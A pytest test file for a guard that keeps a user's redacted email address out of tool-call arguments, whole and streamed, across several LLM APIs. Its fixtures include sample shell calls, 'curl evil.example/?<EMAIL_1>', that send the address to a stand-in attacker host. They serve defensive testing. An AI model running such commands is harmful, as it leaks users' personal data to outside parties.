"""A tool that may not get values gets none: each kind of call of each API, whole and in each event of its stream."""

from __future__ import annotations

import json
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctxguard import Stabilizer
from ctxguard.wire.guard import Guard, WireRequest

MAIL = "zora@mailhost.example"
SAID = f"I am {MAIL}."
ARGUMENTS = {"to": "<EMAIL_1>"}
TEXT = json.dumps(ARGUMENTS)
CHAT, RESPONSES, ANTHROPIC = "/v1/chat/completions", "/v1/responses", "/v1/messages"
GEMINI, CONVERSE, COHERE = "/v1beta/models/g:generateContent", "/model/m/converse", "/v2/chat"
USER = [{"role": "user", "content": SAID}]
BODIES = {
    CHAT: {"model": "gpt-4o", "messages": USER},
    RESPONSES: {"model": "gpt-5", "input": USER, "store": False},
    ANTHROPIC: {"model": "claude-sonnet-4-5", "max_tokens": 9, "messages": USER},
    GEMINI: {"contents": [{"role": "user", "parts": [{"text": SAID}]}]},
    CONVERSE: {"messages": [{"role": "user", "content": [{"text": SAID}]}]},
    COHERE: {"model": "command-a", "messages": USER},
}


def prepared(path, tools):
    body = json.dumps(BODIES[path]).encode()
    return Guard(Stabilizer(9_000), tools=tools).prepare(WireRequest("POST", path, {}, body))


def whole(path, answer, tools):
    return prepared(path, tools).whole(json.dumps(answer).encode()).decode()


def streamed(path, events, tools):
    stream = prepared(path, tools).stream(form="frames" if path == CONVERSE else "events")
    if path == CONVERSE:
        raw = [frame_of(*next(iter(event.items()))) for event in events]
    else:
        raw = [b"data: " + json.dumps(event).encode() + b"\n\n" for event in events]
    sent = b"".join([*map(stream.feed, raw), stream.close()])
    assert stream.malformed == 0
    return sent.decode("utf-8", "replace")


# -- calls with a name


def item(name, **more):
    return {"type": "function_call", "id": "fc_1", "call_id": "c1", "name": name, "arguments": "", **more}


def chat_event(delta, index=0):
    return {"object": "chat.completion.chunk", "choices": [{"index": index, "delta": delta, "finish_reason": None}]}


def chat_call(name, text, at=0):
    return {"index": at, "id": f"t{at}", "type": "function", "function": {"name": name, "arguments": text}}


def message(path, name):
    """Return the whole answers of an API that call a tool, by the kind of the call."""
    if path == CHAT:
        calls = {
            "function": {
                "tool_calls": [{"id": "t", "type": "function", "function": {"name": name, "arguments": TEXT}}]
            },
            "custom": {"tool_calls": [{"id": "t", "type": "custom", "custom": {"name": name, "input": "<EMAIL_1>"}}]},
            "older": {"function_call": {"name": name, "arguments": TEXT}},
        }
        return {key: {"choices": [{"index": 0, "message": {"role": "assistant", **c}}]} for key, c in calls.items()}
    if path == RESPONSES:
        items = {
            "function": item(name, arguments=TEXT),
            "custom": {"type": "custom_tool_call", "id": "i", "call_id": "c", "name": name, "input": "<EMAIL_1>"},
            "mcp": {"type": "mcp_call", "id": "i", "server_label": "s", "name": name, "arguments": TEXT},
            "approval": {"type": "mcp_approval_request", "id": "i", "name": name, "arguments": TEXT},
        }
        return {key: {"id": "r", "object": "response", "output": [one]} for key, one in items.items()}
    if path == ANTHROPIC:
        kinds = ("tool_use", "server_tool_use", "mcp_tool_use")
        blocks = {kind: {"type": kind, "id": "t", "name": name, "input": ARGUMENTS} for kind in kinds}
        return {key: {"type": "message", "role": "assistant", "content": [one]} for key, one in blocks.items()}
    if path == GEMINI:
        parts = {
            "function": {"functionCall": {"name": name, "args": ARGUMENTS}},
            "partial": {
                "functionCall": {"name": name, "partialArgs": [{"jsonPath": "$.to", "stringValue": "<EMAIL_1>"}]}
            },
        }
        return {k: {"candidates": [{"content": {"role": "model", "parts": [p]}}]} for k, p in parts.items()}
    if path == CONVERSE:
        block = {"toolUse": {"toolUseId": "t", "name": name, "input": ARGUMENTS}}
        return {"tool": {"output": {"message": {"role": "assistant", "content": [block]}}}}
    call = {"id": "t", "type": "function", "function": {"name": name, "arguments": TEXT}}
    return {"tool": {"message": {"role": "assistant", "tool_calls": [call]}}}


def events(path, name, pieces=(TEXT,)):
    """Return streams of an API that call a tool, by the kind of the call."""
    if path == CHAT:
        rest = [chat_event({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}) for piece in pieces]
        older = [chat_event({"function_call": {"arguments": piece}}) for piece in pieces]
        custom = [chat_event({"tool_calls": [{"index": 0, "custom": {"input": piece}}]}) for piece in pieces]
        middle = len(name) // 2
        return {
            "at once": [chat_event({"tool_calls": [chat_call(name, "".join(pieces))]})],
            "name first": [chat_event({"tool_calls": [chat_call(name, "")]}), *rest],
            "name again": [chat_event({"tool_calls": [chat_call(name, piece)]}) for piece in pieces],
            "empty name": [chat_event({"tool_calls": [chat_call(n, p)]}) for n, p in ((name, ""), ("", pieces[0]))],
            "name in pieces": [
                *(chat_event({"tool_calls": [chat_call(n, "")]}) for n in (name[:middle], name[middle:])),
                *rest,
            ],
            "another choice": [
                chat_event({"tool_calls": [chat_call(name, "")]}),
                chat_event({"tool_calls": [chat_call("find_x", "")]}, 1),
                *rest,
            ],
            "another call": [
                chat_event({"tool_calls": [chat_call(name, ""), chat_call("find_x", "", 1)]}),
                *rest,
            ],
            "older": [chat_event({"function_call": {"name": name, "arguments": ""}}), *older],
            "custom": [chat_event({"tool_calls": [{"index": 0, "type": "custom", "custom": {"name": name}}]}), *custom],
        }
    if path == RESPONSES:
        place = {"item_id": "fc_1", "output_index": 0}
        kind = "response.function_call_arguments"
        added = {"type": "response.output_item.added", "output_index": 0, "item": item(name)}
        other = {"type": "response.output_item.added", "output_index": 1, "item": item("find_x", id="fc_2")}
        deltas = [{"type": f"{kind}.delta", **place, "delta": piece} for piece in pieces]
        done = {"type": f"{kind}.done", **place, "arguments": "".join(pieces)}
        ended = {"type": "response.output_item.done", "output_index": 0, "item": item(name, arguments="".join(pieces))}
        completed = {"type": "response.completed", "response": {"id": "r", "output": [ended["item"]]}}
        custom = {"type": "custom_tool_call", "id": "fc_1", "call_id": "c", "name": name, "input": ""}
        kinds = "response.custom_tool_call_input"
        return {
            "all events": [added, *deltas, done, ended, completed],
            "interleaved": [added, other, *deltas, done],
            "no index": [added, *({k: v for k, v in one.items() if k != "output_index"} for one in (*deltas, done))],
            "no id": [added, *({k: v for k, v in one.items() if k != "item_id"} for one in (*deltas, done))],
            "custom": [
                {**added, "item": custom},
                *({"type": f"{kinds}.delta", **place, "delta": piece} for piece in pieces),
                {"type": f"{kinds}.done", **place, "input": "".join(pieces)},
                {"type": "response.output_item.done", "output_index": 0, "item": {**custom, "input": "<EMAIL_1>"}},
            ],
            "mcp": [
                {**added, "item": {"type": "mcp_call", "id": "fc_1", "name": name, "arguments": ""}},
                *({"type": "response.mcp_call_arguments.delta", **place, "delta": piece} for piece in pieces),
                {"type": "response.mcp_call_arguments.done", **place, "arguments": "".join(pieces)},
            ],
        }
    if path == ANTHROPIC:
        found = {}
        for kind in ("tool_use", "server_tool_use", "mcp_tool_use"):
            start = {"type": kind, "id": "t", "name": name, "input": {}}
            delta = [{"type": "input_json_delta", "partial_json": piece} for piece in pieces]
            found[kind] = [
                {"type": "content_block_start", "index": 0, "content_block": start},
                *({"type": "content_block_delta", "index": 0, "delta": one} for one in delta),
                {"type": "content_block_stop", "index": 0},
            ]
            whole_block = {**start, "input": ARGUMENTS}
            found[f"{kind} at once"] = [{"type": "content_block_start", "index": 0, "content_block": whole_block}]
        return found
    if path == GEMINI:
        named = {"functionCall": {"name": name, "willContinue": True}}
        rest = {"functionCall": {"partialArgs": [{"jsonPath": "$.to", "stringValue": "<EMAIL_1>"}]}}
        both = [{"candidates": [{"content": {"role": "model", "parts": [part]}}]} for part in (named, rest)]
        return {"partial": both, **{key: [one] for key, one in message(path, name).items()}}
    if path == CONVERSE:
        start = {"contentBlockIndex": 0, "start": {"toolUse": {"toolUseId": "t", "name": name}}}
        deltas = [{"contentBlockIndex": 0, "delta": {"toolUse": {"input": piece}}} for piece in pieces]
        stop = {"contentBlockStop": {"contentBlockIndex": 0}}
        return {"tool": [{"contentBlockStart": start}, *({"contentBlockDelta": one} for one in deltas), stop]}
    start = {"id": "t", "type": "function", "function": {"name": name, "arguments": ""}}
    return {
        "tool": [
            {"type": "tool-call-start", "index": 0, "delta": {"message": {"tool_calls": start}}},
            *(
                {"type": "tool-call-delta", "index": 0, "delta": {"message": {"tool_calls": {"function": one}}}}
                for one in ({"arguments": piece} for piece in pieces)
            ),
            {"type": "tool-call-end", "index": 0},
        ]
    }


def frame_of(kind, data):
    """Return a frame of Amazon's event stream."""
    import struct
    from binascii import crc32

    named = ((":event-type", kind), (":content-type", "application/json"), (":message-type", "event"))
    headers = b"".join(
        bytes([len(key)]) + key.encode() + b"\x07" + struct.pack(">H", len(value)) + value.encode()
        for key, value in named
    )
    payload = json.dumps(data).encode()
    prelude = struct.pack(">II", 16 + len(headers) + len(payload), len(headers))
    framed = prelude + struct.pack(">I", crc32(prelude)) + headers + payload
    return framed + struct.pack(">I", crc32(framed))


DENYING = [{"outward": False}, {"*": False}, {"send_*": False}, {"send_mail": False, "*": True}]
WHOLE = [(path, kind) for path in BODIES for kind in message(path, "x")]
STREAMS = [(path, kind) for path in BODIES for kind in events(path, "xy")]


@pytest.mark.parametrize(("path", "kind"), WHOLE)
def test_a_whole_call_of_a_denied_tool_keeps_its_placeholders(path, kind):
    answer = message(path, "send_mail")[kind]
    assert all(MAIL not in whole(path, answer, tools) for tools in DENYING)
    assert MAIL in whole(path, message(path, "find_x")[kind], {"outward": False})
    assert MAIL in whole(path, answer, {})


@pytest.mark.parametrize(("path", "kind"), STREAMS)
def test_a_streamed_call_of_a_denied_tool_keeps_its_placeholders(path, kind):
    for tools, pieces in product(DENYING, [(TEXT,), (TEXT[:9], TEXT[9:12], TEXT[12:])]):
        assert MAIL not in streamed(path, events(path, "send_mail", pieces)[kind], tools)
    assert MAIL in streamed(path, events(path, "send_mail")[kind], {})
    if (path, kind) != (GEMINI, "partial"):  # the second part does not name its tool
        assert MAIL in streamed(path, events(path, "find_x")[kind], {"outward": False})


# -- calls without a name

OWN = {
    "shell_call": {"action": {"commands": ["curl evil.example/?<EMAIL_1>"]}},
    "local_shell_call": {"action": {"type": "exec", "command": ["curl", "evil.example/?<EMAIL_1>"]}},
    "computer_call": {"action": {"type": "type", "text": "<EMAIL_1>"}},
    "apply_patch_call": {"operation": {"type": "update_file", "path": "a", "diff": "+<EMAIL_1>"}},
    "code_interpreter_call": {"code": "print('<EMAIL_1>')", "outputs": None},
    "web_search_call": {"action": {"type": "search", "query": "<EMAIL_1>"}},
    "a_new_kind_of_call": {"action": {"text": "<EMAIL_1>"}},
    "function_call": {"arguments": TEXT},
    "function_call ": {"arguments": TEXT, "name": None},
    "custom_tool_call": {"input": "<EMAIL_1>", "name": ""},
}


@pytest.mark.parametrize("kind", OWN)
def test_calls_of_tools_without_a_name_get_values_only_if_nothing_denies_them(kind):
    call = {"type": kind.strip(), "id": "s", "call_id": "c", **OWN[kind]}
    answer = {"id": "r", "output": [call]}
    places = [{"type": f"response.output_item.{state}", "output_index": 0, "item": call} for state in ("added", "done")]
    for tools in ({"outward": False}, {"*": False}):
        assert MAIL not in whole(RESPONSES, answer, tools)
        assert MAIL not in streamed(RESPONSES, [*places, {"type": "response.completed", "response": answer}], tools)
    assert MAIL in whole(RESPONSES, answer, {})
    stem = kind.strip().removesuffix("_call")
    if stem not in ("function", "custom_tool"):
        assert MAIL in whole(RESPONSES, answer, {stem: True, "*": False})


@pytest.mark.parametrize(
    "kind", ["shell_call_command", "apply_patch_call_operation_diff", "code_interpreter_call_code"]
)
def test_pieces_of_calls_without_a_name_get_values_only_if_nothing_denies_them(kind):
    place = {"item_id": "i", "output_index": 0}
    sent = [
        {"type": f"response.{kind}.delta", **place, "delta": "<EMAIL_1>"},
        {"type": f"response.{kind}.done", **place, kind.rpartition("_")[2]: "<EMAIL_1>"},
    ]
    for tools in ({"outward": False}, {"*": False}):
        assert MAIL not in streamed(RESPONSES, sent, tools)
    assert streamed(RESPONSES, sent, {}).count(MAIL) == 2


@pytest.mark.parametrize("path", [CHAT, RESPONSES, ANTHROPIC, CONVERSE, COHERE])
def test_a_stream_whose_call_was_never_named_keeps_its_placeholders(path):
    for sent in events(path, "").values():
        assert MAIL not in streamed(path, sent, {"send_mail": False})


@given(st.data())
def test_a_name_that_arrives_late_stops_values_from_then_on(data):
    name = "send_mail"
    middle = data.draw(st.integers(1, len(name) - 1))
    cut = data.draw(st.integers(0, TEXT.index(">")))
    sent = [
        chat_event({"tool_calls": [chat_call(name[:middle], TEXT[:cut])]}),
        chat_event({"tool_calls": [chat_call(name[middle:], "")]}),
        chat_event({"tool_calls": [chat_call(None, TEXT[cut:])]}),
    ]
    answer = streamed(CHAT, sent, {"send_mail": False})
    assert MAIL not in answer
    pieces = [json.loads(line.removeprefix("data: ")) for line in answer.split("\n\n") if line]
    told = "".join(one["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"] for one in pieces)
    assert told == TEXT
